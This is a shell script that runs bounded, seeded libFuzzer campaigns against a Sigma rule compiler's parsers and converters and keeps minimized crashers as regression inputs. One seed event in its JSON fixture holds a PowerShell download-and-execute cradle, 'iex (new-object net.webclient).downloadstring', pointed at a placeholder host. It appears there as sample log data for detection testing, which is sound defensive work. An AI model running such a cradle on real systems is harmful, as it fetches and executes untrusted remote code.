#!/bin/sh
# Runs every libFuzzer target for a bounded time, seeded, as CI does
# (tests/run.sh's last step):
#   1. builds the targets in their own build directory (clang, -Dfuzz=true,
#      AddressSanitizer + UndefinedBehaviorSanitizer, UB fatal), reusing it
#      when it is already set up;
#   2. builds seed corpora in a temporary directory: every SigmaHQ rule, one
#      per file, for fuzz_rule and a deterministic sample of them (every Nth
#      of the sorted list) for fuzz_convert, each with sigc's own rule
#      files; the SigmaHQ rules' `condition:` lines for fuzz_cond, the
#      built-in pipelines for fuzz_pipeline, SigmaHQ's regression events (as
#      written and joined to one line) for fuzz_events; every kept crasher
#      seeds its target too;
#   3. runs each target for SIGC_FUZZ_SECONDS (default 30) with the
#      dictionaries tests/fuzz/sigma.dict and tests/fuzz/json.dict.
# A target that crashes, leaks, trips a sanitizer, times out or runs out
# of memory: its input is minimized, copied into tests/fuzz/regress/
# (regress_events/ for fuzz_events) under a name saying which target, what
# and where, printed, and the script exits 1 after the other targets ran.
# Kept inputs are replayed by the normal suite (meson test fuzz-regress,
# fuzz-events-regress).
#
# Exits 77 (meson's skip) when clang cannot build libFuzzer targets or the
# SigmaHQ corpus (../shared beside the checkout) is missing.
#
# Environment:
#   SIGC_FUZZ_SECONDS     seconds per target (default 30)
#   SIGC_FUZZ_TARGETS     targets to run (default: all five)
#   SIGC_FUZZ_BUILD       build directory (default build-fuzz in the checkout)
#   SIGC_FUZZ_MAX_SEEDS   SigmaHQ rules that seed fuzz_convert (default 400;
#                         fuzz_rule takes them all; 0: all for both)
#   SIGC_SHARED_DIR       the shared folder (default ../shared)
set -u
root=$(cd "$(dirname "$0")/../.." && pwd)
here=$root/tests/fuzz
shared=${SIGC_SHARED_DIR:-$root/../shared}
build=${SIGC_FUZZ_BUILD:-$root/build-fuzz}
seconds=${SIGC_FUZZ_SECONDS:-30}
max_seeds=${SIGC_FUZZ_MAX_SEEDS:-400}
targets=${SIGC_FUZZ_TARGETS:-fuzz_rule fuzz_convert fuzz_cond fuzz_pipeline fuzz_events}

case $seconds in '' | *[!0-9]*) echo "run-bounded: SIGC_FUZZ_SECONDS must be a number of seconds" >&2; exit 2 ;; esac
case $max_seeds in '' | *[!0-9]*) echo "run-bounded: SIGC_FUZZ_MAX_SEEDS must be a number" >&2; exit 2 ;; esac

skip() {
    echo "run-bounded: SKIP: $*"
    exit 77
}

rules_dir=$shared/corpus/sigmahq/rules
events_dir=$shared/corpus/sigmahq/regression_data
if [ ! -d "$rules_dir" ] || [ ! -d "$events_dir" ]; then skip "the SigmaHQ corpus is missing ($shared/corpus/sigmahq)"; fi
for tool in clang meson ninja; do
    command -v $tool >/dev/null 2>&1 || skip "$tool is not installed"
done

tmp=$(mktemp -d "${TMPDIR:-/tmp}/sigc-fuzz.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
trap 'exit 130' INT TERM

printf 'int LLVMFuzzerTestOneInput(const unsigned char *d, unsigned long n);\nint LLVMFuzzerTestOneInput(const unsigned char *d, unsigned long n) { (void)d; (void)n; return 0; }\n' >"$tmp/probe.c"
clang -fsanitize=fuzzer,address,undefined "$tmp/probe.c" -o "$tmp/probe" >"$tmp/probe.log" 2>&1 ||
    skip "clang cannot build libFuzzer targets with ASan+UBSan: $(head -1 "$tmp/probe.log")"

started=$(date +%s)

# ---- 1. build -------------------------------------------------------------

if [ ! -f "$build/build.ninja" ]; then
    echo "run-bounded: setting up $build"
    CC=clang meson setup "$build" --buildtype=debugoptimized -Dfuzz=true \
        -Db_sanitize=address,undefined -Db_lundef=false -Dc_args=-fno-sanitize-recover=all \
        >"$tmp/setup.log" 2>&1 || { cat "$tmp/setup.log"; exit 1; }
fi
if ! grep -q 'fsanitize=fuzzer-no-link' "$build/build.ninja"; then
    echo "run-bounded: $build is not a fuzz build (CC=clang, -Dfuzz=true); remove it or set SIGC_FUZZ_BUILD" >&2
    exit 1
fi
ninja_targets=
for t in $targets; do ninja_targets="$ninja_targets tests/fuzz/$t"; done
# shellcheck disable=SC2086 # one word per target
ninja -C "$build" $ninja_targets >"$tmp/ninja.log" 2>&1 || { cat "$tmp/ninja.log"; exit 1; }
echo "run-bounded: built $targets in $(($(date +%s) - started)) s"

# ---- 2. seed corpora ----------------------------------------------------------

seeds=$tmp/seeds
mkdir -p "$seeds/rules" "$seeds/cond" "$seeds/pipeline" "$seeds/events"

# Copies each listed file (one path a line on stdin) to DIR/NNNN-basename.
copy_numbered() {
    n=0
    while IFS= read -r f; do
        n=$((n + 1))
        cp "$f" "$1/$(printf '%04d' "$n")-$(basename "$f")"
    done
}

# rules: every SigmaHQ rule, one per file, for fuzz_rule (about 400 inputs a
# second: the corpus is read in about 10 s); for fuzz_convert, which runs
# each input through every backend and pipeline (about 50 a second), every
# Nth of the sorted list, at most max_seeds, so it has time left to mutate;
# then sigc's own rules, examples and golden inputs, and the kept crashers
LC_ALL=C find "$rules_dir" -name '*.yml' -type f | LC_ALL=C sort >"$tmp/all-rules"
total=$(wc -l <"$tmp/all-rules")
stride=1
[ "$max_seeds" -gt 0 ] && [ "$total" -gt "$max_seeds" ] && stride=$(((total + max_seeds - 1) / max_seeds))
own_rules() {
    LC_ALL=C find "$root/rules" "$root/examples" "$root/tests/golden" -name '*.yml' -type f | LC_ALL=C sort
    for f in "$here"/regress/*.yml; do
        case $f in *.pipeline.yml) ;; *) [ -f "$f" ] && echo "$f" ;; esac
    done
}
mkdir -p "$seeds/rules-sample"
{ cat "$tmp/all-rules"; own_rules; } | copy_numbered "$seeds/rules"
{ awk -v s="$stride" '(NR - 1) % s == 0' "$tmp/all-rules"; own_rules; } | copy_numbered "$seeds/rules-sample"

# conditions: each distinct one-line `condition:` of every SigmaHQ rule
# (quotes taken off; correlation conditions are mappings and left out)
tr '\n' '\0' <"$tmp/all-rules" | xargs -0 sed -n 's/^[[:space:]]*condition:[[:space:]]*//p' |
    sed -e "s/^'\(.*\)'\$/\1/" -e 's/^"\(.*\)"$/\1/' -e 's/[[:space:]]*$//' |
    grep -v -e '^$' -e '^{' | LC_ALL=C sort -u >"$tmp/conditions"
n=0
while IFS= read -r c; do
    n=$((n + 1))
    printf '%s' "$c" >"$seeds/cond/$(printf '%04d' "$n")"
done <"$tmp/conditions"

# pipelines: the built-in ones and kept pipeline crashers
{
    LC_ALL=C find "$root/compiler/data/pipelines" -name '*.yml' -type f | LC_ALL=C sort
    for f in "$here"/regress/*.pipeline.yml; do [ -f "$f" ] && echo "$f"; done
} | copy_numbered "$seeds/pipeline"

# events: each regression file as written (pretty-printed, one or more
# events), the same joined to one line, a few flat JSON lines, and the
# kept JSON crashers
LC_ALL=C find "$events_dir" -name '*.json' -type f | LC_ALL=C sort >"$tmp/all-events"
copy_numbered "$seeds/events" <"$tmp/all-events"
n=0
while IFS= read -r f; do
    n=$((n + 1))
    { sed 's/^[[:space:]]*//' "$f" | tr -d '\n'; echo; } >"$seeds/events/line-$(printf '%04d' "$n").json"
done <"$tmp/all-events"
cat >"$seeds/events/flat.json" <<'EOF'
{"EventID": 1, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami", "@timestamp": "2025-01-02T03:04:05.678Z"}
{"EventID": 1, "Image": "C:\\Temp\\x.exe", "SourceIp": "10.1.2.3", "@timestamp": 1735787045}
{"winlog": {"event_id": 4625, "computer_name": "dc1"}, "Data": null, "Computer": true}
{"EventID": "1", "CommandLine": "powershell iex (new-object net.webclient).downloadstring('http://x')"
[{"EventID": 3}, {"EventID": 3, "Image": "a"}]
EOF
for f in "$here"/regress_events/*.json; do [ -f "$f" ] && cp "$f" "$seeds/events/regress-$(basename "$f")"; done

for d in rules rules-sample cond pipeline events; do printf '%s %s seeds, ' "$d" "$(find "$seeds/$d" -type f | wc -l)"; done
echo "(the sample: 1 in $stride of $total SigmaHQ rules)"

# ---- 3. run -------------------------------------------------------------------

# Every sanitizer report ends the run (UB too), after libFuzzer kept the input.
export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=1:allocator_may_return_null=0:symbolize=1"
export UBSAN_OPTIONS="${UBSAN_OPTIONS:+$UBSAN_OPTIONS:}halt_on_error=1:print_stacktrace=1"

seed_dir() {
    case $1 in
    fuzz_rule) echo "$seeds/rules" ;;
    fuzz_convert) echo "$seeds/rules-sample" ;;
    fuzz_cond) echo "$seeds/cond" ;;
    fuzz_pipeline) echo "$seeds/pipeline" ;;
    fuzz_events) echo "$seeds/events" ;;
    esac
}

# A name for a finding: which code, from the sanitizer report in log $1:
# the file:line of a UBSan report, else the first stack frame in sigc's
# code (fuzz_convert's property checks by name), else "harness".
where() {
    w=$(sed -n 's/^\([^ :]*\.c\):\([0-9]*\):[0-9]*: runtime error:.*/\1-\2/p' "$1" | head -1)
    if [ -n "$w" ]; then basename "$w"; return; fi
    w=$(sed -n 's/^ *#[0-9][0-9]* 0x[0-9a-f]* in \([^ (]*\).*/\1/p' "$1" |
        grep -E '^(sg|sgm|kql|spl|sur|c|fc|fe)_' | grep -v '^fc_require$' | head -1)
    echo "${w:-harness}"
}

# Writes the fuzz_cond input $1 as a rule file whose condition it is (YAML
# double-quoted: " and \ escaped, control bytes as \xNN), so `sigc check`
# in the normal suite parses that condition.
cond_as_rule() {
    printf 'title: fuzz_cond finding\nlogsource: {product: windows}\ndetection:\n    sel: {EventID: 1}\n    condition: "'
    od -An -v -tu1 "$1" | LC_ALL=C awk '{
        for (i = 1; i <= NF; i++) {
            b = $i
            if (b == 34) printf "\\\""
            else if (b == 92) printf "\\\\"
            else if (b < 32 || b == 127) printf "\\x%02X", b
            else printf "%c", b
        }
    }'
    printf '"\n'
}

# Shows a kept input: text as it is (controls made visible), at most 4 KiB.
show() {
    echo "---- $1 ($(wc -c <"$1") bytes) ----"
    head -c 4096 "$1" | cat -v
    echo
    echo "----"
}

failed=0
summary=
for t in $targets; do
    bin=$build/tests/fuzz/$t
    corpus=$tmp/corpus/$t
    art=$tmp/artifacts/$t
    mkdir -p "$corpus" "$art"
    dict=$here/sigma.dict
    extra=
    if [ "$t" = fuzz_events ]; then dict=$here/json.dict extra=-max_len=65536; fi
    t0=$(date +%s)
    # libFuzzer stops itself after max_total_time; the outer timeout is a
    # backstop for a hang in its own startup.
    # shellcheck disable=SC2086 # extra is one flag or none
    timeout $((seconds + 300)) "$bin" "$corpus" "$(seed_dir "$t")" -dict="$dict" $extra \
        -max_total_time="$seconds" -timeout=10 -rss_limit_mb=2048 -error_exitcode=1 -timeout_exitcode=1 \
        -print_final_stats=1 -artifact_prefix="$art/" >"$tmp/$t.log" 2>&1
    st=$?
    runs=$(sed -n 's/^stat::number_of_executed_units: *//p' "$tmp/$t.log" | tail -1)
    speed=$(sed -n 's/^stat::average_exec_per_sec: *//p' "$tmp/$t.log" | tail -1)
    cov=$(sed -n 's/.* cov: \([0-9]*\) .*/\1/p' "$tmp/$t.log" | tail -1)
    line="$t: $(($(date +%s) - t0)) s, ${runs:-?} runs, ${speed:-?} exec/s, cov ${cov:-?}"
    if [ $st -eq 0 ]; then
        echo "$line: ok"
        summary="$summary$line: ok
"
        continue
    fi
    failed=1
    found=$(find "$art" -type f \( -name 'crash-*' -o -name 'leak-*' -o -name 'timeout-*' -o -name 'oom-*' \) | head -1)
    echo "$line: FAILED (exit $st)"
    summary="$summary$line: FAILED
"
    # the report: from the sanitizer's or libFuzzer's first error line on
    sed -n '/==ERROR\|runtime error:\|deadly signal\|ERROR: libFuzzer\|LeakSanitizer/,$p' "$tmp/$t.log" | head -80
    if [ -z "$found" ]; then
        echo "run-bounded: $t failed without leaving an input; its log ends:"
        tail -30 "$tmp/$t.log"
        continue
    fi
    kind=$(basename "$found" | sed 's/-.*//')
    input=$found
    if [ "$kind" = crash ] || [ "$kind" = leak ]; then
        # the smallest input that still fails, within half a minute
        timeout 120 "$bin" -minimize_crash=1 -max_total_time=30 -runs=100000 -timeout=10 -rss_limit_mb=2048 \
            -exact_artifact_path="$tmp/$t.min" "$found" >"$tmp/$t.min.log" 2>&1
        [ -s "$tmp/$t.min" ] && input=$tmp/$t.min
    fi
    hash=$(sha1sum "$input" | cut -c1-8)
    name=${t#fuzz_}-$kind-$(where "$tmp/$t.log" | tr -c 'A-Za-z0-9_.\n-' '_')-$hash
    case $t in
    fuzz_events) dest=$here/regress_events/$name.json; cp "$input" "$dest" ;;
    fuzz_pipeline) dest=$here/regress/$name.pipeline.yml; cp "$input" "$dest" ;;
    fuzz_cond) dest=$here/regress/$name.yml; cond_as_rule "$input" >"$dest"; show "$input" ;;
    *) dest=$here/regress/$name.yml; cp "$input" "$dest" ;;
    esac
    echo "run-bounded: $t: $kind kept as ${dest#"$root"/}"
    show "$dest"
done

echo "run-bounded: done in $(($(date +%s) - started)) s"
[ $failed -eq 0 ] || printf 'run-bounded: FAILED\n%s' "$summary"
exit $failed
